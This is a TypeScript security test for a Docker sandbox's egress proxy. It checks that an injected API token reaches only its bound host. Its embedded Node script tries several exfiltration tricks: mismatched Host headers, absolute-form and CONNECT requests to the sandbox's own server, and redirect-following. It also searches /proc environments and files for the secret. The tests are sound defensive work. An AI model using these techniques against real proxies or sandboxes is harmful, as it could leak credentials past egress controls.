/**
 * Group egress, secrets at the edge (docs/secrets.md): a DockerRuntime sandbox allowed two of this
 * host's addresses, a secret bound to one of them (header and placeholder), tries to get the value
 * sent somewhere it can read, or to read it. An HTTP server on this host (both addresses) records
 * what each request carried and answers `ok`; `/redirect` on the bound address sends the client
 * on to the other one. From inside, through the proxy: a request line to the other host with the
 * bound host's `Host` header; requests to a server the sandbox runs itself, with the bound host in
 * the `Host` header, in absolute form and through a `CONNECT` (the names are the proxy's to
 * resolve, and the sandbox's own address is no public one); a redirect followed by fetch. Then it
 * looks for the value in every process's environment and command line it can see and in its
 * files. The bound host must receive the value (so the rows are not vacuous); nothing else may.
 */
import { Effect, ManagedRuntime, Redacted } from "effect"
import { randomBytes } from "node:crypto"
import { createServer } from "node:http"
import { DockerRuntime } from "../../src/docker.ts"
import { IMAGE_NODE } from "../../src/engines/docker/containerSpec.ts"
import { Runtime } from "../../src/index.ts"
import { hostAddresses } from "./egressHosts.ts"
import { baseImage } from "./ownerProcess.ts"
import { atLeast, atMost, type GroupContext, type Row } from "./rows.ts"

/** The sandbox's server port and its record of what reached it. */
const INSIDE_PORT = 8099
const INSIDE_RECORD = "/tmp/chaos-inside.txt"

/**
 * The tricks, run by the image's Node inside the sandbox: `node tricks.js <bound> <other> <port>`.
 * Raw requests go to the proxy named by HTTP_PROXY; the sandbox's own server records what it gets.
 */
const TRICKS = `
const net = require("net"), http = require("http"), fs = require("fs"), os = require("os")
const [bound, other, port] = process.argv.slice(2)
const proxy = new URL(process.env.HTTP_PROXY)
const own = Object.values(os.networkInterfaces()).flat().find((i) => i.family === "IPv4" && !i.internal).address
const got = []
const inside = http.createServer((q, r) => { got.push(JSON.stringify([q.url, q.headers])); r.end("inside") })
const raw = (text) => new Promise((done) => {
  const s = net.connect(Number(proxy.port), proxy.hostname, () => s.write(text))
  s.on("data", () => undefined); s.on("close", done); s.on("error", done); setTimeout(() => s.destroy(), 3000)
})
const line = (target, path, host) => "GET " + target + path + " HTTP/1.1\\r\\nHost: " + host + "\\r\\nConnection: close\\r\\n\\r\\n"
inside.listen(${INSIDE_PORT}, async () => {
  const key = process.env.API_TOKEN
  await raw(line("http://" + bound + ":" + port, "/bound?key=" + key, bound + ":" + port))
  await raw(line("http://" + other + ":" + port, "/mismatch?key=" + key, bound + ":" + port))
  await raw(line("http://" + own + ":${INSIDE_PORT}", "/own", bound + ":" + port))
  await raw("CONNECT " + own + ":${INSIDE_PORT} HTTP/1.1\\r\\nHost: " + bound + "\\r\\n\\r\\n" + line("", "/tunnel", bound))
  await fetch("http://" + bound + ":" + port + "/redirect", { signal: AbortSignal.timeout(5000) }).catch(() => undefined)
  fs.writeFileSync("${INSIDE_RECORD}", got.map((one) => one + "\\n").join(""))
  inside.close()
})
`

/** A grep of the sandbox for `text`, its pattern in escapes a builtin expands (no command or process holds it). */
const search = (text: string, where: string) =>
  `printf '${
    [...Buffer.from(text)].map((byte) => `\\x${byte.toString(16).padStart(2, "0")}`).join("")
  }\\n' | grep -rlsF -f - ${where} 2>/dev/null | wc -l`

export const egressSecretRows = async (_: GroupContext): Promise<ReadonlyArray<Row>> => {
  const { sandboxBridge: bound, defaultBridge: other } = await hostAddresses()
  const value = `chaos-${randomBytes(16).toString("hex")}`
  const received: Array<{ readonly at: string; readonly text: string }> = []
  let port = 0
  const server = createServer((request, response) => {
    received.push({ at: request.socket.localAddress ?? "", text: JSON.stringify([request.url, request.headers]) })
    if (request.url === "/redirect") response.writeHead(302, { location: `http://${other}:${port}/landed` }).end()
    else response.end("ok")
  })
  await new Promise<void>((resolve) => server.listen(0, "0.0.0.0", resolve))
  port = (server.address() as { port: number }).port
  const session = `chaos-secrets-${randomBytes(5).toString("hex")}`
  const sandbox = ManagedRuntime.make(
    DockerRuntime.layer({
      baseImage: baseImage(),
      sessionId: session,
      network: { allowOnly: [bound, other] },
      secrets: [{
        value: Redacted.make(value),
        hosts: [bound],
        env: "API_TOKEN",
        header: { name: "Authorization", value: "Bearer {secret}" }
      }]
    })
  )
  try {
    const rt = await sandbox.runPromise(Runtime)
    const run = (command: string) => sandbox.runPromise(rt.runCommand(command)).then((obs) => obs.content)
    await sandbox.runPromise(rt.write({ path: "/workspace/tricks.js", content: TRICKS }).pipe(Effect.asVoid))
    await run(`${IMAGE_NODE} /workspace/tricks.js ${bound} ${other} ${port}`)
    const insideGot = await run(search(value, INSIDE_RECORD))
    // No record (the tricks did not run to the end) is no number, and fails the row.
    const insideCount = await run(`test -f ${INSIDE_RECORD} && wc -l < ${INSIDE_RECORD} || echo missing`)
    const processes = await run(search(value, "/proc/[0-9]*/environ /proc/[0-9]*/cmdline"))
    const files = await run(search(value, "/tmp /workspace /home /etc /root /var/tmp /run"))
    const toBound = received.filter((r) => r.at === bound)
    const toOther = received.filter((r) => r.at === other)
    return [
      atLeast(
        "egress secrets: the bound host received the value",
        toBound.filter((r) => r.text.includes(value)).length,
        "requests",
        1
      ),
      atLeast("egress secrets: requests the other host received (Host trick, redirect)", toOther.length, "requests", 2),
      atMost(
        "egress secrets: requests to the other host carrying the value (Host trick, redirect)",
        toOther.filter((r) => r.text.includes(value)).length,
        "requests",
        0
      ),
      atMost(
        "egress secrets: requests to the sandbox's own server (bound Host) that reached it",
        Number(insideCount.trim()),
        "requests",
        0
      ),
      atMost(
        "egress secrets: records of the sandbox's own server holding the value",
        Number(insideGot.trim()),
        "files",
        0
      ),
      atMost(
        "egress secrets: processes whose environment or command line holds the value",
        Number(processes.trim()),
        "processes",
        0
      ),
      atMost("egress secrets: files in the sandbox holding the value", Number(files.trim()), "files", 0)
    ]
  } finally {
    await sandbox.dispose()
    server.close()
  }
}
